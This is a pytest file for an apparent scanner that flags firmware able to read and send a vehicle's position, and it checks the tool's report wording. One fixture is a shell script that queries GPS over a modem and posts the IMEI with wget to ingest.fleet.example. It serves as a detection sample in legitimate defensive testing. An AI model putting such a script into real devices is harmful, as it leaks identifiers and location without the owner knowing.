"""Of an image or a log nobody is told to drive, to record again while parked, or to list the devices of a car."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.talks import run, scan
from tests.tars import make_tar

_PROGRAM = (
    b"#!/bin/sh\nprintf 'AT+QGPSLOC=2\\r' >/dev/ttyUSB2\nimei=$(cat /run/imei)\n"
    b'wget -q --post-data "$imei" http://ingest.fleet.example/v1\n'
)
_LOG = b"AT+CGMI\r\nQuectel\r\n\r\nOK\r\nAT+CGMM\r\nEC25\r\n\r\nOK\r\nAT+CGSN\r\n867730050816697\r\n\r\nOK\r\n"
_OF_A_CAR = re.compile(
    r"(?i)parked|driving|devices (?:that )?belong to this car|passer-by|record(?:ing)? (?:again|longer|repeated)"
)


@pytest.mark.parametrize("kind", ["program", "plain", "log"])
def test_advice_fits_what_was_read(tmp_path: Path, kind: str) -> None:
    if kind == "log":
        path = tmp_path / "at.log"
        path.write_bytes(_LOG)
    else:
        path = make_tar(
            tmp_path / "image.tar", {"opt/up": _PROGRAM if kind == "program" else b"#!/bin/sh\necho hello\n"}
        )
    printed = scan(tmp_path / "d.db", path)
    assert {"program": "suspicious", "plain": "nothing-seen", "log": "capable"}[kind] in printed
    run(tmp_path / "d.db", "report", "-o", str(tmp_path / "report.md"))
    page = " ".join((tmp_path / "report.md").read_text().partition("# What stands behind it")[0].split())
    for text in (printed, page):
        assert not _OF_A_CAR.search(text), text
    assert "Next: find out what the unit is for" in printed
    if kind == "program":
        assert (
            "holds code that reads IMEI and the position, calls the network and names ingest.fleet.example" in printed
        )
        assert "software with code that reads its position and could send it" in printed
